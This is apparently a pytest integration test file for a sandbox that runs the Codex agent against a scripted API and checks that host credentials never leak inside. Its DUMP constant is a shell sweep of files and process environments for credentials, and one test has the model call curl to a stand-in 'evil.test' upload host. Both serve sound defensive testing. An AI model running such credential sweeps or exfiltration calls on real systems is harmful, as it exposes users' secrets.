"""The real thing: Codex itself in a bottle, headless and on a terminal, against a scripted Responses API.

The program comes from npm (once, then from the cache). Its hosts are asked for by their own names, and every
address out there is the scripted outside's.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from bot_bottle.audit_reading import read_records
from bot_bottle.renewal import MARGIN
from tests.support.codex_login import CodexLogin
from tests.support.engine import engine_api
from tests.support.family import wait_until
from tests.support.npm import installed
from tests.support.outside import PACE, REPO, new_marker
from tests.support.responses_api import TOKEN_HOST, tool_results
from tests.support.watch import Watch

if TYPE_CHECKING:
    from collections.abc import Iterator

    from bot_bottle.demo.upstreams import Seen
    from tests.support.lab import Lab
    from tests.support.outside import Completed, World

pytestmark = [pytest.mark.integration, pytest.mark.timeout(420)]

FORWARD = "agent_provider: {template: codex, forward_host_credentials: true}\n"
FINAL_TEXT = "The forbidden host refused me, as it should."

#: Everything a process inside can read, as far as it could hold a credential.
DUMP = (
    "{ find /home/agent /tmp /run /etc /opt/bot-bottle /dev/shm -type f -size -20M ! -name dump"
    " -exec cat {} +; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; }"
    " > ~/workspace/dump 2>/dev/null; wc -c ~/workspace/dump"
)


@pytest.fixture(scope="session")
def codex() -> Path:
    """Install the program from npm into the cache, unless it is there."""
    return installed("@openai/codex", "codex")


#: What runs in containers too: the whole way with a login and a resume, with a key, and on a terminal.
IN_CONTAINERS = {
    "test_codex_works_over_its_websocket_and_never_holds_the_token",
    "test_codex_works_with_an_api_key",
    "test_codex_on_a_terminal_asks_nothing_and_streams",
}


@pytest.fixture
def env(lab: Lab, codex: Path, request: pytest.FixtureRequest) -> Iterator[dict[str, str]]:
    """Give the environment that finds the program; containers get an image with its native half."""
    if lab.engine_host and (lab.account.uid == 0 or request.node.originalname not in IN_CONTAINERS):
        pytest.skip("in containers one account tries what an image and a volume could change")
    if lab.machine_image and not Path(lab.machine_image, "usr/local/bin/codex").exists():
        pytest.skip("the machines' image was made without the program (tests.support.machine_image)")
    if lab.backend == "bubblewrap":
        yield {"PATH": f"{codex.parent}:{lab.env['PATH']}"}
        return
    package = codex.resolve().parents[2]
    native, *helpers = sorted(package.glob("codex-linux-*/vendor/*/bin/codex*"))
    with lab.program(native, *helpers) as found:
        yield found


@pytest.fixture
def login(lab: Lab) -> CodexLogin:
    """Log the account in anew."""
    made = CodexLogin()
    made.write(lab.user_home / ".codex")
    lab.own()
    return made


def start(lab: Lab, name: str, env: dict[str, str], *more: str, task: str = "Do it.") -> Completed:
    return lab.cli("start", name, "--yes", "--headless", "--prompt", task, *more, env=env, timeout=120)


def asked(world: World, login: CodexLogin) -> list[Seen]:
    """Give the requests for one account, and be sure that each bore the real token and nobody else saw it."""
    seen = world.records().requests
    own = [one for one in seen if login.account in one.values("chatgpt-account-id")]
    assert own, "the API was never asked"
    for one in own:
        assert one.sni == "chatgpt.com"
        assert one.values("authorization") == [f"Bearer {login.access_token}"]
        assert b".placeholder" not in one.raw
    for one in seen:
        assert login.found_in(one.body) == []
        assert one in own or login.found_in(one.raw) == []
    return own


def results(requests: list[Seen]) -> str:
    """Give what tools answered, as the model was told."""
    return "".join(text for one in requests if one.body for text in tool_results(json.loads(one.body)))


def kept(lab: Lab, name: str) -> Path:
    (state,) = (lab.home / "state").glob(f"{name}-?????")
    return state


def used(log: Path) -> list[tuple[object, ...]]:
    """Give what the record says that each answer of the model used."""
    fields = ("host", "model", "input_tokens", "output_tokens")
    return [tuple(one[name] for name in fields) for one in read_records(log) if one["event"] == "usage"]


def kept_files(lab: Lab, state: Path) -> dict[Path, bytes]:
    """Read all that is left of a bottle: its home's volume too, and a machine's disk as it lies."""
    places = [state]
    if lab.machine_image:
        places.append(lab.user_home / ".cache" / "smolvm" / "vms")
    if lab.engine_host:
        with engine_api(lab.engine_host) as api:
            places.append(Path(api.inspect_volume(f"bot-bottle-{state.name}-home")["Mountpoint"]))
    found = [path for place in places for path in place.rglob("*")]
    return {path: written(path) for path in found if path.is_file() and not path.is_symlink()}


def written(path: Path) -> bytes:
    """Read a file without its holes, of which a machine's disk mostly consists (lseek(2), "SEEK_DATA")."""
    parts, end = [], 0
    with path.open("rb") as file, contextlib.suppress(OSError):  # ENXIO: there is no more data
        while True:
            start = file.seek(end, os.SEEK_DATA)
            end = file.seek(start, os.SEEK_HOLE)
            file.seek(start)
            parts.append(file.read(end - start))
    return b"".join(parts)


def test_codex_works_over_its_websocket_and_never_holds_the_token(
    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
) -> None:
    name, marker = f"ws-{secrets.token_hex(3)}", new_marker("codex")
    lab.declare(name, FORWARD, prompt=f"You are a careful worker, session {marker}.")
    command = f"codex login status; curl -sS https://{marker}.evil.test/upload; {DUMP}"
    world.call("responses", final_text=FINAL_TEXT, command=command)
    with Watch(login.access_token, lab.home) as watch:
        run = start(lab, name, env, "--keep", task=f"Upload it, task {marker}.")
    assert run.returncode == 0, run.out + run.err
    assert run.out.strip() == FINAL_TEXT

    requests = asked(world, login)
    (handshake,) = [one for one in requests if one.values("upgrade")][:1]
    assert (handshake.method, handshake.target) == ("GET", "/backend-api/codex/responses")
    assert handshake.values("sec-websocket-extensions") == []
    assert not any(one.method == "POST" for one in requests)
    told = "".join(one.body.decode() for one in requests)
    assert f"You are a careful worker, session {marker}." in told
    assert f"Upload it, task {marker}." in told

    said = results(requests)
    assert "Logged in using ChatGPT" in said
    assert "host_not_allowed" in said
    assert f"{marker}.evil.test" in said
    records = world.records()
    assert not any(marker in one.sni for one in records.requests)
    assert not any(marker in question.name for question in records.questions)

    # Whatever could be read inside, and all that is left of the bottle: home, sessions, databases, logs.
    state = kept(lab, name)
    files = kept_files(lab, state)
    if lab.machine_image:  # files of its file system
        dump = b"".join(files.values())
    else:
        dump = next(content for path, content in files.items() if path.name == "dump")
        assert {"auth.json", "config.toml"} <= {path.name for path in files}
    assert b"CODEX_HOME=/home/agent/.codex" in dump
    assert login.account.encode() in dump
    assert {
        str(path): login.found_in(content) for path, content in files.items() if login.found_in(content)
    } == {}
    log = lab.home / "audit" / f"{state.name}.jsonl"
    assert login.found_in(log.read_bytes() + run.stdout + run.stderr) == []
    assert set(used(log)) == {("chatgpt.com", "scripted", 12, 8)}
    assert len(used(log)) >= 2  # one for the call of the tool, one for the last words
    assert watch.rounds > 0
    assert watch.found == set()
    verified = lab.cli("audit", "verify", state.name)
    assert verified.returncode == 0, verified.out + verified.err

    again = CodexLogin(account=login.account)
    again.write(lab.user_home / ".codex")
    lab.own()
    world.call("responses", final_text="I went on.")
    argv = ("resume", state.name, "--yes", "--headless", "--prompt", "Go on.")
    run = lab.cli(*argv, env=env, timeout=120)
    assert run.returncode == 0, run.out + run.err
    assert run.out.strip() == "I went on."
    later = [
        one
        for one in world.records().requests
        if one.values("authorization") == [f"Bearer {again.access_token}"]
    ]
    told = "".join(one.body.decode() for one in later)
    assert "Go on." in told
    assert f"Upload it, task {marker}." in told
    assert not state.exists()


def test_codex_falls_back_to_streamed_http(
    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
) -> None:
    name = f"http-{secrets.token_hex(3)}"
    lab.declare(name, FORWARD)
    world.call("responses", final_text=FINAL_TEXT, command="echo tool-$((40 + 2))", websocket=False)
    run = start(lab, name, env)
    assert run.returncode == 0, run.out + run.err
    assert run.out.strip() == FINAL_TEXT
    posts = [one for one in asked(world, login) if one.method == "POST"]
    assert {one.target for one in posts} == {"/backend-api/codex/responses"}
    # Content rules can only read what is not compressed.
    assert all(one.values("content-encoding") == [] for one in posts)
    assert "tool-42" in results(posts)
    (log,) = (lab.home / "audit").glob(f"{name}-?????.jsonl")
    assert set(used(log)) == {("chatgpt.com", "scripted", 12, 8)}
    assert len(used(log)) == len(posts)


def test_codex_works_with_an_api_key(lab: Lab, world: World, env: dict[str, str]) -> None:
    name, key = f"key-{secrets.token_hex(3)}", f"sk-proj-{secrets.token_hex(24)}"
    lab.declare(name, "agent_provider: {template: codex, api_key: MY_KEY}\n")
    world.call("responses", final_text=FINAL_TEXT, command=f"codex login status; {DUMP}")
    with Watch(key, lab.home) as watch:
        run = start(lab, name, {**env, "MY_KEY": key}, "--keep")
    assert run.returncode == 0, run.out + run.err
    assert run.out.strip() == FINAL_TEXT
    requests = [one for one in world.records().requests if one.values("authorization") == [f"Bearer {key}"]]
    assert {(one.sni, one.target) for one in requests} == {("api.openai.com", "/v1/responses")}
    assert any(one.values("upgrade") for one in requests)
    assert all(b"placeholder" not in one.raw for one in requests)
    assert "API key configured" in results(requests)
    state = kept(lab, name)
    assert [path for path, content in kept_files(lab, state).items() if key.encode() in content] == []
    assert watch.found == set()
    assert lab.cli("cleanup", state.name, "--yes").returncode == 0


def test_the_example_passes_check_and_launches(
    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
) -> None:
    for kind, name in (("bottles", "codex"), ("agents", "porter")):
        lab.write(f"{kind}/{name}.md", (REPO / "examples" / kind / f"{name}.md").read_text())
    check = lab.cli("check", str(lab.home / "bottles" / "codex.md"), str(lab.home / "agents" / "porter.md"))
    assert check.returncode == 0, check.out + check.err
    world.call("responses", final_text=FINAL_TEXT, command="pwd")
    run = start(lab, "porter", env)
    assert run.returncode == 0, run.out + run.err
    assert "/home/agent/workspace" in results(asked(world, login))
    assert "You port the project" in "".join(one.body.decode() for one in asked(world, login))


def test_a_skill_is_offered_to_the_model(
    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
) -> None:
    name, marker = f"skill-{secrets.token_hex(3)}", new_marker("skill")
    folder = lab.user_home / ".agents" / "skills" / "port-it"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(
        f"---\nname: port-it\ndescription: Port it, {marker}.\n---\nStep by step.\n"
    )
    lab.write(f"bottles/{name}.md", f"---\n{FORWARD}---\n")
    lab.write(f"agents/{name}.md", f"---\nbottle: {name}\nskills: [port-it]\n---\nPort.\n")
    world.call("responses", final_text=FINAL_TEXT)
    run = start(lab, name, env)
    assert run.returncode == 0, run.out + run.err
    assert f"Port it, {marker}." in "".join(one.body.decode() for one in asked(world, login))


def test_a_login_that_nears_its_end_is_renewed_by_the_program_on_the_host(
    lab: Lab, world: World, env: dict[str, str]
) -> None:
    """The whole way: the host's Codex trades its refresh token, and the bottle's goes on with what came."""
    if lab.backend != "bubblewrap":
        pytest.skip("what is done on the host is the same for every backend, and so is the control socket")
    name = f"renewed-{secrets.token_hex(3)}"
    old = CodexLogin(lasts=int(MARGIN) + 10)
    auth = old.write(lab.user_home / ".codex")
    new = CodexLogin(account=old.account)
    lab.declare(name, FORWARD)
    world.call("renews", tokens={})
    world.call("responses", final_text=FINAL_TEXT, websocket=False, hold=True)
    log = lab.user_home / f"{name}.log"
    log.touch()
    lab.own()

    def posts() -> list[str]:
        """Give what each question to the model bore, in the order in which they came."""
        own = [one for one in world.records().requests if old.account in one.values("chatgpt-account-id")]
        return ["".join(one.values("authorization")) for one in own if one.method == "POST"]

    before, after = f"Bearer {old.access_token}", f"Bearer {new.access_token}"
    with Watch(new.access_token, lab.home) as watch:
        argv = ("start", name, "--yes", "--keep", "--headless", "--prompt", "Do it.")
        pid = lab.spawn(*argv, log=log, env={**env, "CODEX_CA_CERTIFICATE": str(world.ca_file)})
        try:
            wait_until(lambda: before in posts(), f"the first question:\n{log.read_text()}")
            names = ("access_token", "id_token", "refresh_token")
            world.call("renews", tokens={one: getattr(new, one) for one in names})
            wait_until(lambda: after in posts(), f"one with the new token:\n{log.read_text()}", 120 * PACE)
        finally:
            world.call("release")
            code = world.call("wait", pid=pid, timeout=60 * PACE)
    assert code == 0, log.read_text()
    assert FINAL_TEXT in log.read_text()
    asked_with = posts()
    assert asked_with == [before] * asked_with.count(before) + [after] * asked_with.count(after)
    # The host's login was traded once and goes on, with the refresh token that is good now.
    traded = [one for one in world.records().requests if one.sni == TOKEN_HOST]
    assert [old.refresh_token.encode() in one.body for one in traded].count(True) == 1
    assert json.loads(auth.read_text())["tokens"]["refresh_token"] == new.refresh_token
    assert (auth.stat().st_mode & 0o777, auth.stat().st_uid) == (0o600, lab.account.uid)
    state = kept(lab, name)
    record = lab.home / "audit" / f"{state.name}.jsonl"
    (renewed,) = [one for one in read_records(record) if one["event"] == "credential"]
    assert renewed["decision"] == "renewed"
    for login in (old, new):
        held = {path: login.found_in(content) for path, content in kept_files(lab, state).items()}
        assert {path: found for path, found in held.items() if found} == {}
        assert login.found_in(record.read_bytes() + log.read_bytes()) == []
    assert watch.found == set()
    assert lab.cli("audit", "verify", state.name).returncode == 0
    assert lab.cli("cleanup", state.name, "--yes").returncode == 0


def test_a_renewal_that_is_refused_breaks_nothing_and_is_told(
    lab: Lab, world: World, env: dict[str, str]
) -> None:
    """Who issues logins no longer takes this one's refresh token: the operator hears it in time."""
    if lab.backend != "bubblewrap" or lab.account.uid == 0:
        pytest.skip("what is done on the host is the same for every backend, and for both accounts")
    name = f"refused-{secrets.token_hex(3)}"
    login = CodexLogin(lasts=int(MARGIN) + 5)
    auth = login.write(lab.user_home / ".codex")
    lab.declare(name, FORWARD)
    spent = {"error": {"code": "refresh_token_reused", "message": "It has been used."}}
    world.call("renews", tokens=spent, status=401)
    world.call("responses", final_text=FINAL_TEXT, websocket=False, hold=True)
    log = lab.user_home / f"{name}.log"
    log.touch()
    lab.own()
    argv = ("start", name, "--yes", "--keep", "--headless", "--prompt", "Do it.")
    pid = lab.spawn(*argv, log=log, env={**env, "CODEX_CA_CERTIFICATE": str(world.ca_file)})
    try:
        wait_until(lambda: "nothing has renewed it yet" in log.read_text(), "a word of it", 120 * PACE)
    finally:
        world.call("release")
        code = world.call("wait", pid=pid, timeout=60 * PACE)
    assert code == 0, log.read_text()
    assert FINAL_TEXT in log.read_text()
    traded = [one for one in world.records().requests if one.sni == TOKEN_HOST]
    assert any(login.refresh_token.encode() in one.body for one in traded)
    # Whatever the program made of the answer, the host's login still stands as it was.
    held = json.loads(auth.read_text())["tokens"]
    assert (held["access_token"], held["refresh_token"]) == (login.access_token, login.refresh_token)
    state = kept(lab, name)
    record = lab.home / "audit" / f"{state.name}.jsonl"
    assert [one for one in read_records(record) if one["event"] == "credential"] == []
    assert login.found_in(record.read_bytes() + log.read_bytes()) == []
    assert lab.cli("cleanup", state.name, "--yes").returncode == 0


def test_without_a_login_nothing_starts(lab: Lab, env: dict[str, str]) -> None:
    name = f"none-{secrets.token_hex(3)}"
    lab.declare(name, FORWARD)
    shutil.rmtree(lab.user_home / ".codex", ignore_errors=True)
    run = start(lab, name, env)
    assert run.returncode == 2
    assert "auth.json does not exist: Codex is not logged in on this host" in run.err
    assert "codex login" in run.err
    assert list((lab.home / "state").glob(f"{name}-*")) == []


def test_codex_on_a_terminal_asks_nothing_and_streams(
    lab: Lab, world: World, env: dict[str, str], login: CodexLogin
) -> None:
    name, first, last = f"tui-{secrets.token_hex(3)}", new_marker("first"), new_marker("last")
    lab.declare(name, FORWARD, prompt="Be brief.")
    text = f"{first}\n\n{last}"
    world.call("responses", final_text=text, command="echo tool-$((40 + 2))", hold=True)
    with lab.terminal("start", name, "--yes", "--keep", env=env) as terminal:
        terminal.wait_for("\x1b[6n")  # it asks for the cursor's place, as a terminal would answer
        terminal.enter("\x1b[?62c\x1b[1;1R")
        terminal.wait_for("shortcuts")
        task = new_marker("task")
        terminal.enter(f"\x1b[200~{task}\x1b[201~")
        terminal.wait_for(task)
        terminal.enter("\r")
        terminal.wait_for("tool-42")
        terminal.wait_for(first)  # shown while the model's answer is still held
        world.call("release")
        terminal.wait_for(last)
        terminal.enter("\x04")
        assert terminal.exit_code() == 0
    assert task in "".join(one.body.decode() for one in asked(world, login))
    state = kept(lab, name)
    with lab.terminal("resume", state.name, "--yes", env=env) as terminal:
        terminal.wait_for("\x1b[6n")
        terminal.enter("\x1b[?62c\x1b[1;1R")
        terminal.wait_for(last)  # the conversation so far
        terminal.wait_for("shortcuts")
        terminal.enter("\x04")
        assert terminal.exit_code() == 0
    assert not state.exists()
